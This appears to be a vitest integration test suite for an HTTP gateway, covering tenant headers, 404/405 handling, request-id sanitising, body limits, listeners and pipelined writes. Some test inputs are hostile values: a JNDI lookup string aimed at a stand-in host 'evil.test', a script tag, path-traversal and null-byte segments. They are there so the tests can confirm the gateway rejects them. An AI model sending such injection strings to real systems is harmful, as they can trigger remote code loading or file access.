/** What the door answers by itself, over HTTP to a real node. Spec: docs/contract/data.md §1.3, docs/contract/common.md §3.3, §4. */
import { connect } from 'node:net';
import { describe, expect, test } from 'vitest';
import { useDataNode } from '#test/kit/data-node.ts';

const on = useDataNode();

describe('positions on the data routes', () => {
  const names = ['X-Customer', 'X-Product', 'X-Env', 'X-Tenant'];

  test.each(names)('without %s: 400 invalid tenant', async (name) => {
    const headers = { ...on.bearer };
    delete headers[name];
    const answer = await on.it.call('GET', '/data/rest/item', headers);
    expect(answer.status).toBe(400);
    expect(answer.json).toMatchObject({ error: 'invalid tenant' });
  });

  test.each(['', 'UPPER', 'a b', '-a', 'a'.repeat(64), 'a:b', 'ä', '../x', 'a%00'])(
    'a malformed segment %j: 400',
    async (segment) => {
      const answer = await on.it.call('GET', '/data/rest/item', { ...on.bearer, 'X-Tenant': encodeURI(segment) });
      expect(answer.status).toBe(400);
    },
  );

  test('a well-formed position that is not configured: 400', async () => {
    const answer = await on.it.call('GET', '/data/rest/item', { ...on.bearer, 'X-Tenant': 'absent' });
    expect(answer.status).toBe(400);
    expect(answer.json).toMatchObject({ error: 'invalid tenant' });
  });

  test('a configured tenant that is not provisioned: 403 v2.no_tenant', async () => {
    const answer = await on.it.call('GET', '/data/rest/item', { ...on.bearer, 'X-Tenant': 'sleeping' });
    expect(answer.status).toBe(403);
    expect(answer.json).toMatchObject({ code: 'v2.no_tenant' });
  });
});

describe('paths and verbs', () => {
  test.each([
    '/',
    '/data',
    '/data/',
    '/data/rest/item/',
    '/nothing',
    '/data/ramlschema',
    '/data/entities/list',
    '/%2e%2e/etc',
  ])('%s is not there: a bare 404', async (path) => {
    const answer = await on.it.call('GET', path, on.bearer);
    expect(answer.status).toBe(404);
    expect(answer.text).toBe('');
    expect(answer.headers.get('content-type')).toBeNull();
  });

  test('a verb without a row: a bare 405 with Allow', async () => {
    const answer = await on.it.call('PUT', '/auth/token', on.bearer, {});
    expect(answer.status).toBe(405);
    expect(answer.headers.get('allow')).toBe('POST, OPTIONS');
    expect(answer.text).toBe('');
  });

  test('OPTIONS names the verbs', async () => {
    const answer = await on.it.call('OPTIONS', '/data/rest/item', on.bearer);
    expect(answer.status).toBe(204);
    expect(answer.headers.get('allow')).toBe('GET, HEAD, POST, PUT, PATCH, DELETE, OPTIONS');
  });

  test('HEAD has the headers of GET and no body', async () => {
    const get = await on.it.call('GET', '/data/rest/item', on.bearer);
    const head = await on.it.call('HEAD', '/data/rest/item', on.bearer);
    expect(head.status).toBe(200);
    expect(head.text).toBe('');
    expect(head.headers.get('content-length')).toBe(String(Buffer.byteLength(get.text)));
  });
});

describe('request ids', () => {
  test('a well-formed one comes back', async () => {
    const answer = await on.it.call('GET', '/data/rest/item', { ...on.bearer, 'X-Request-Id': 'abc-123' });
    expect(answer.headers.get('x-request-id')).toBe('abc-123');
  });

  test.each(['', 'with space', 'x'.repeat(129)])('%j is replaced', async (id) => {
    const answer = await on.it.call('GET', '/nowhere', { 'X-Request-Id': id });
    expect(answer.headers.get('x-request-id')).toMatch(/^[0-9a-f]{12}-[0-9a-z]+$/);
  });

  test('refusals of the door carry one too', async () => {
    for (const path of ['/nowhere', '/data/rest/item']) {
      const answer = await on.it.call('GET', path);
      expect(answer.headers.get('x-request-id')).toBeTruthy();
    }
  });
});

describe('bodies', () => {
  test('above the cap: 413, and nothing reaches the host', async () => {
    const answer = await on.it.call('POST', '/data/rest/item', on.bearer, `{"name":"${'x'.repeat(9 * 1024 * 1024)}"}`);
    expect(answer.status).toBe(413);
    expect(answer.json).toMatchObject({ code: 'body_too_large' });
  });

  test('binary and invalid UTF-8: 400 v2.bad_json', async () => {
    const response = await fetch(`${on.it.gateway}/data/rest/item`, {
      method: 'POST',
      headers: on.bearer,
      body: new Uint8Array([0x7b, 0xff, 0xfe, 0x7d]),
    });
    expect(response.status).toBe(400);
    expect(await response.json()).toMatchObject({ code: 'v2.bad_json' });
  });
});

describe('listeners', () => {
  test('a service on its own listener answers without the public prefix', async () => {
    const data = on.it.node.listeners['data']!;
    expect((await on.it.call('GET', '/rest/item', on.bearer, undefined, data)).status).toBe(200);
    expect((await on.it.call('GET', '/data/rest/item', on.bearer, undefined, data)).status).toBe(404);
    expect((await on.it.call('GET', '/auth/token', on.bearer, undefined, data)).status).toBe(404);
  });

  test('operations serves its three paths and nothing else', async () => {
    const operations = on.it.node.listeners['operations']!;
    expect(await on.it.call('GET', '/livez', {}, undefined, operations)).toMatchObject({
      status: 200,
      text: 'live:true',
    });
    expect(await on.it.call('GET', '/readyz', {}, undefined, operations)).toMatchObject({
      status: 200,
      text: 'ready:true',
    });
    const listed = await on.it.call('GET', '/readyz', { Accept: 'application/json' }, undefined, operations);
    expect([listed.status, listed.json]).toEqual([200, { ready: true, degraded: [] }]);
    expect(listed.headers.get('content-type')).toBe('application/json; charset=utf-8');
    const metrics = await on.it.call('GET', '/metrics', {}, undefined, operations);
    expect(metrics.text).toContain('skep_degraded{scope="host"} 0');
    expect(metrics.text).not.toMatch(/^(# HELP )?(vault_|http_server_request_duration)/m); // its vault is off
    expect(metrics.status).toBe(200);
    expect(metrics.headers.get('content-type')).toContain('text/plain');
    expect((await on.it.call('GET', '/data/rest/item', on.bearer, undefined, operations)).status).toBe(404);
    expect((await on.it.call('POST', '/livez', {}, {}, operations)).status).toBe(405);
  });
});

describe('the gateway', () => {
  test('answers its own probes', async () => {
    const health = await on.it.call('GET', '/health');
    expect([health.status, health.json]).toEqual([200, { healthy: true, version: expect.any(String) }]);
    expect(await on.it.call('GET', '/ready')).toMatchObject({ status: 200, text: 'ready:true' });
    const asked = await on.it.call('GET', '/ready', { Accept: 'application/json' });
    expect([asked.status, asked.json]).toEqual([200, { ready: true }]);
  });

  test('what a caller sends as a request id comes back only where it has the form of one', async () => {
    for (const [given, same] of [
      ['3fa85f64-5717-4562-b3fc-2c963f66afa6', true],
      ['${jndi:ldap://evil.test}', false],
      ['<script>', false],
    ] as const) {
      const { headers } = await on.it.call('GET', '/nowhere', { 'X-Request-Id': given });
      expect(headers.get('x-request-id') === given, given).toBe(same);
    }
  });

  test('of writes that are pipelined in one packet none is carried out without an answer', async () => {
    const count = async (): Promise<number> => {
      const { json } = await on.it.call('GET', '/data/rest/item?limit=1000', on.bearer);
      return (json as { data: unknown[] }).data.length;
    };
    const before = await count();
    const { hostname, port } = new URL(on.it.gateway);
    const fields = Object.entries({ ...on.bearer, 'Content-Type': 'application/json' });
    const post = (n: number): string => {
      const body = JSON.stringify({ name: `pipelined ${n}` });
      const lines = fields.map(([name, value]) => `${name}: ${value}\r\n`).join('');
      return `POST /data/rest/item HTTP/1.1\r\nHost: a\r\n${lines}Content-Length: ${body.length}\r\n\r\n${body}`;
    };
    const text = await new Promise<string>((resolve, reject) => {
      let heard = '';
      const socket = connect(Number(port), hostname, () => socket.write([1, 2, 3].map(post).join('')));
      socket.setEncoding('latin1').on('data', (data: string) => (heard += data));
      socket.setTimeout(2000, () => socket.destroy());
      socket.on('close', () => resolve(heard)).on('error', reject);
    });
    const answered = [...text.matchAll(/HTTP\/1\.1 201 /g)].length;
    expect((await count()) - before).toBe(answered);
  });
});
